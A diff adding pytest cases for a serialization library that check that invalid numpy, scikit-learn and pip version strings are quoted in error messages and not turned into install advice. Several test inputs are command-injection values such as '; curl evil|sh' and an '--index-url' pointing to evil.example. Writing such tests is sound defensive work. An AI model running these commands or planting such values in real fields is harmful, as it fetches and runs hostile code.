@@ -46,7 +46,42 @@ class TestDifferences:
         assert str(told.message) == f"<bytes> was written with numpy 0.5.1 (here {np.__version__}); results may differ"
         with pytest.raises(VersionError) as refused:
             vitrify.loads(data, versions="error")
-        assert refused.value.hint == 'Install those versions, or load with versions="warn"'
+        assert refused.value.hint == 'Install the versions that vitrify lock lists, or load with versions="warn"'
+
+    @pytest.mark.parametrize(
+        ("stated", "shown"),
+        [
+            ("1.0 --index-url http://evil.example", "'1.0 --index-url http://evil.example', which is no version"),
+            (f"{np.__version__}; curl evil|sh", f"'{np.__version__}; curl evil|sh', which is no version"),
+            ("1.0\n\x1b", r"'1.0\n\x1b', which is no version"),
+            ("2.0rc1.post3.dev4+local.5", "2.0rc1.post3.dev4+local.5"),
+        ],
+    )
+    def test_what_is_no_version_is_quoted_and_no_advice(self, stated: str, shown: str) -> None:
+        """Also where it begins like the version that is here (PEP 440)."""
+        data = written_with([np.ones(2)], numpy=stated)
+        with pytest.raises(VersionError) as caught:
+            vitrify.loads(data, versions="error")
+        said = f"<bytes> was written with numpy {shown} (here {np.__version__}); results may differ"
+        assert caught.value.message == said
+        advice = "Train again" if "no version" in shown else "Install the versions that vitrify lock lists"
+        assert caught.value.hint == f'{advice}, or load with versions="warn"'
+
+    def test_no_advice_repeats_a_version_that_is_none(self) -> None:
+        """Nor where a change is known."""
+        data = written_with(AdaBoostClassifier(n_estimators=2).fit(X, [0, 1, 2] * 2), sklearn="1.0 --pre")
+        with pytest.raises(
+            VersionError, match=r"^<bytes>: written with scikit-learn '1.0 --pre', which is no "
+        ) as caught:
+            vitrify.loads(data)
+        assert (caught.value.path, caught.value.hint) == ("$.estimators_[0]", "Train again")
+
+    def test_only_libraries_of_the_models_types_are_compared(self) -> None:
+        """Whatever else the record names, though it is installed here."""
+        data = written_with([np.ones(2)], pytest="0.1", pip="1.0; curl evil|sh", sklearn="0.9")
+        with warnings.catch_warnings():
+            warnings.simplefilter("error")
+            assert vitrify.loads(data, versions="error")[0].tolist() == [1.0, 1.0]
 
     def test_a_patch_release_is_none(self) -> None:
         """Nor are other versions of Python and vitrify."""
